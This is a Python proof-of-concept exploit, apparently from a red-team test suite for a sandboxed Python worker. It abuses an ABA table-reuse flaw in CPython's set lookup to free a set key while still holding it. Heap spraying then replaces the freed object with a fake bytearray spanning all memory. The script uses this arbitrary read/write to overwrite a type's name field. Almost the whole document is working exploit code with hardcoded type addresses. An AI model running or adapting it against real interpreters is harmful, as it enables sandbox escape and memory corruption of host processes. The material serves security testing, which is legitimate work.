# technique: set_lookkey's restart check after a stored key's __eq__ (`table != so->table || entry->key != startkey`) is fooled by ABA: __eq__ clears the set (frees its 128-entry, 2048-byte table) and s.update() of 20 keys mallocs a 64-entry, 1024-byte table at the same address; the probed entry 100 (offset 1600) lies past the new table and still holds the stale startkey, so the lookup "finds" it; set.discard() then writes a dummy past the table and decrefs the startkey a second time (freed while we hold it); its 80-byte block is refilled with a bytearray buffer laid out as a fake bytearray over all memory (arbitrary read and write). Sets have no version guard (only dict lookups do). (red-team pass 81; no set table is freed for reuse while a set compares keys: the lookup restarts)
# expect: any
import struct
BA_TYPE = 0x1001e00                 # &PyByteArray_Type (nm safepy-worker: not PIE)
FLOAT_TYPE = 0x100f9e0              # &PyFloat_Type

class S:
    __slots__ = ("st", "b", "c", "d", "e")   # 16 + 40 = 56 bytes + 16 GC header: an 80-byte block
    def __init__(self, st): self.st = st
    def __hash__(self): return 100
    def __eq__(self, other):
        st = self.st
        st["calls"] += 1
        if st["calls"] == 1:
            s = st["s"]
            s.clear()                 # frees the 128-entry (2048 B) table
            s.update(st["big"])       # a 64-entry (1024 B) table, often at the same address
            return True               # set_lookkey: table == so->table and stale entry 100 still holds us
        return False

class Marker:                         # a hash-100 key in the new table: a restarted lookup calls it
    def __init__(self, st): self.st = st
    def __hash__(self): return 100
    def __eq__(self, other):
        self.st["calls"] += 1
        return False

def fake_ba(tp, addr, n):
    return struct.pack("<qQqqQQq", 1 << 40, tp, n, n + 1, addr, addr, 0)

FAKE = bytes(16) + fake_ba(BA_TYPE, 0, 1 << 62) + bytes(7)   # 79 bytes: an 80-byte buffer, object at +16
keepsets, spray_keep = [], []

def attempt():
    st = {"calls": 0}
    big = set(range(1000, 1019))
    big.add(Marker(st))
    st["big"] = big
    s = set(range(40))                # a 128-entry table; entry 100 is free
    s.add(S(st))                      # hash 100: lands in entry 100 (offset 1600)
    st["s"] = s
    keep = [next(x for x in s if type(x) is S)]   # our only reference
    s.discard(100)                    # the stale entry: dummy written past the table, our S decref'd to 0
    keepsets.append(s)
    if len(s) != 19:                  # the address was not reused: the lookup restarted
        return None
    spray = [bytearray() for _ in range(3000)]
    spray_keep.append(spray)
    for b in spray:
        b += FAKE                     # refill S's freed 80-byte block
    return keep

for n in range(300):
    keep = attempt()
    if keep is not None:
        M = keep[0]
        print("attempt", n, "type of our freed S:", type(M).__name__)
        if type(M) is bytearray:
            print("len", hex(len(M)), "at 0x400000:", bytes(M[0x400000:0x400004]))
            M[FLOAT_TYPE + 24:FLOAT_TYPE + 32] = struct.pack("<Q", 0x400001)   # tp_name -> "ELF..."
            print("type(1.5).__name__ is now", repr(type(1.5).__name__))
            raise RuntimeError("arbitrary memory read/write through a freed set key")
        break
else:
    print("address never reused")
result = "done"
